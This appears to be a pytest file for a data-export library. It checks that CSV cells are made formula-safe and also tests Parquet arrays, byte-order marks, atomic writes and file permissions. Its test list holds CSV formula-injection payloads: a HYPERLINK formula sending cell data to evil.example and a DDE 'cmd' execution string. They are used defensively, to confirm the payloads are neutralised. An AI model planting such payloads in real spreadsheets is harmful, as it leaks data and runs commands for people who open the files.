"""Writers: formula-safe UTF-8 CSV, Parquet with array columns, atomic files."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import numpy as np
import pyarrow.parquet as pq
import pytest

from mmfuse.io.writers import atomic_write, read_table, write_csv, write_json, write_parquet

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
]


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_that_would_run_as_formulas_open_as_text():
    rows = [{"id": str(i), "text": t} for i, t in enumerate(DANGEROUS)]
    stream = io.StringIO(newline="")
    write_csv(rows, ["id", "text"], stream)
    cells = [row[1] for row in _read_csv(stream.getvalue())[1:]]
    # A spreadsheet shows a cell starting with a quote as text, quote hidden, formula inert.
    assert cells == ["'" + t for t in DANGEROUS]


def test_a_post_that_starts_with_a_handle_keeps_it():
    """Issue 24 #5: "@SkyJetHelp ..." was written "'@SkyJetHelp ...". A handle at the start
    of a cell stays as written unless the cell also calls a function or a link ("(" or "|")."""
    kept = ["@SkyJetHelp", "@SkyJetHelp my bag is lost!", "@a_b1 thanks, 10/10 = great"]
    quoted = ["@SkyJetHelp (HYPERLINK)", "@x cmd|' /C calc'!A0", "@SUM(A1)", "@ spaced", "@"]
    rows = [{"id": str(i), "text": t} for i, t in enumerate(kept + quoted)]
    stream = io.StringIO(newline="")
    write_csv(rows, ["id", "text"], stream)
    cells = [row[1] for row in _read_csv(stream.getvalue())[1:]]
    assert cells == kept + ["'" + t for t in quoted]


def test_csv_files_start_with_a_byte_order_mark_and_read_back(tmp_path):
    """Issue 24 #5: Excel read the UTF-8 tables as Windows-1252 ("cafÃ©") without a BOM."""
    path = tmp_path / "results.csv"
    with atomic_write(path) as stream:
        write_csv([{"id": "007", "text": "café 🙄", "score": 0.5}], ["id", "text", "score"], stream)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,text,score")
    rows, columns = read_table(tmp_path / "none.parquet", path)
    assert columns == ["id", "text", "score"]
    assert rows == [{"id": "007", "text": "café 🙄", "score": 0.5}]
    with atomic_write(tmp_path / "manifest.json") as stream:  # other text files: plain UTF-8
        stream.write("{}")
    assert (tmp_path / "manifest.json").read_bytes() == b"{}"


def test_csv_leaves_numbers_and_plain_text_alone():
    rows = [{"id": "a", "score": -0.25, "count": 3, "ok": True, "text": "fine = good"}]
    stream = io.StringIO(newline="")
    write_csv(rows, ["id", "score", "count", "ok", "text"], stream)
    assert _read_csv(stream.getvalue())[1] == ["a", "-0.25", "3", "True", "fine = good"]


def test_csv_is_utf8_skips_arrays_and_fills_missing_cells(tmp_path):
    rows = [
        {"id": "café 日本", "embedding": np.ones(4, np.float32), "score": float("nan")},
        {"id": "b", "error": "b.wav: empty file"},
    ]
    path = tmp_path / "results.csv"
    with atomic_write(path) as stream:
        assert write_csv(rows, ["id", "score", "embedding", "error"], stream) == 2
    text = path.read_bytes().decode("utf-8-sig")
    assert _read_csv(text) == [
        ["id", "score", "embedding", "error"],
        ["café 日本", "", "", ""],
        ["b", "", "", "b.wav: empty file"],
    ]


def test_parquet_keeps_scalars_and_arrays_of_any_rank(tmp_path):
    rows = [
        {"id": "a", "score": 1, "vec": np.arange(3, dtype=np.float32), "tokens": np.ones((2, 3))},
        {"id": "b", "score": 2.5, "error": "bad"},
        {"id": "c", "score": None, "vec": np.zeros(3, np.float32), "tokens": np.zeros((1, 3))},
    ]
    path = tmp_path / "results.parquet"
    write_parquet(rows, path, ["id", "error"])
    table = pq.read_table(path)
    assert table.column_names == ["id", "error", "score", "vec", "tokens"]
    assert str(table.schema.field("vec").type) == "list<element: float>"
    got = table.to_pylist()
    assert [r["score"] for r in got] == [1.0, 2.5, None]
    assert got[0]["vec"] == [0.0, 1.0, 2.0] and got[1]["vec"] is None
    assert got[0]["tokens"] == [[1.0] * 3] * 2 and got[2]["tokens"] == [[0.0] * 3]
    assert [r["error"] for r in got] == [None, "bad", None]


def test_parquet_of_no_rows_is_a_valid_empty_table(tmp_path):
    write_parquet([], tmp_path / "empty.parquet", ["id", "error"])
    table = pq.read_table(tmp_path / "empty.parquet")
    assert table.num_rows == 0 and table.column_names == ["id", "error"]


def test_atomic_write_leaves_the_old_file_when_writing_fails(tmp_path):
    path = tmp_path / "results.csv"
    path.write_text("old results\n", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_write(path) as stream:
        stream.write("half a new fi")
        raise RuntimeError("killed")
    assert path.read_text(encoding="utf-8") == "old results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]


def test_write_json_round_trips_unicode(tmp_path):
    write_json({"command": "mmfuse run café", "n": 2}, tmp_path / "manifest.json")
    assert json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8")) == {
        "command": "mmfuse run café",
        "n": 2,
    }


def test_parquet_keeps_booleans_nan_and_nulls(tmp_path):
    rows = [
        {"ok": True, "score": float("nan"), "mask": np.array([[True, False]]), "n": 1},
        {"ok": None, "score": 0.5, "mask": None, "n": None},
    ]
    write_parquet(rows, tmp_path / "t.parquet")
    got = pq.read_table(tmp_path / "t.parquet").to_pylist()
    assert got[0]["ok"] is True and got[1]["ok"] is None and np.isnan(got[0]["score"])
    assert got[0]["mask"] == [[True, False]] and got[1]["mask"] is None
    assert [r["n"] for r in got] == [1, None]


def test_writing_parquet_does_not_import_pandas(tmp_path):
    # pandas takes about a second to import: a cached re-run would spend most of its time there.
    code = (
        "import sys, numpy as np\n"
        "from mmfuse.io.writers import write_parquet\n"
        "write_parquet([{'id': 'a', 'v': np.ones(3, np.float32)}], sys.argv[1])\n"
        "assert 'pandas' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code, str(tmp_path / "t.parquet")], check=True)


def test_a_table_reads_back_as_written(tmp_path):
    from mmfuse.io.writers import read_table

    rows = [{"id": "007", "score": -0.5, "n": 3, "text": "=SUM(A1)", "vec": np.ones(2)},
            {"id": "8", "score": None, "n": 0, "text": "plain", "vec": np.zeros(2)}]  # fmt: skip
    with open(tmp_path / "r.csv", "w", encoding="utf-8", newline="") as stream:
        write_csv(rows, ["id", "score", "n", "text"], stream)
    read, columns = read_table(tmp_path / "missing.parquet", tmp_path / "r.csv")
    assert read[0] == {"id": "007", "score": -0.5, "n": 3, "text": "=SUM(A1)"}
    assert read[1]["score"] == "" and read[1]["id"] == "8"  # ids stay text
    write_parquet(rows, tmp_path / "r.parquet", ["id", "score", "n", "text", "vec"])
    read, columns = read_table(tmp_path / "r.parquet", tmp_path / "r.csv")
    assert columns == ["id", "score", "n", "text"]  # the embedding stays in the file
    assert read[1] == {"id": "8", "score": None, "n": 0, "text": "plain"}


def test_atomic_write_is_private_under_the_cache_root_only(tmp_path, monkeypatch):
    # issue 25 #13
    previous = os.umask(0o022)
    try:
        root = tmp_path / "cache"
        (root / "runs" / "x").mkdir(parents=True, mode=0o755)
        root.chmod(0o755)
        monkeypatch.setenv("MMFUSE_CACHE", str(root))
        with atomic_write(root / "runs" / "x" / "results.csv") as stream:
            stream.write("id\n")
        (tmp_path / "out").mkdir()
        with atomic_write(tmp_path / "out" / "results.csv") as stream:
            stream.write("id\n")
    finally:
        os.umask(previous)
    assert (root / "runs" / "x" / "results.csv").stat().st_mode & 0o777 == 0o600
    assert (root / "runs" / "x").stat().st_mode & 0o777 == 0o700
    assert (root / "runs").stat().st_mode & 0o777 == 0o700
    assert root.stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "out" / "results.csv").stat().st_mode & 0o777 == 0o644
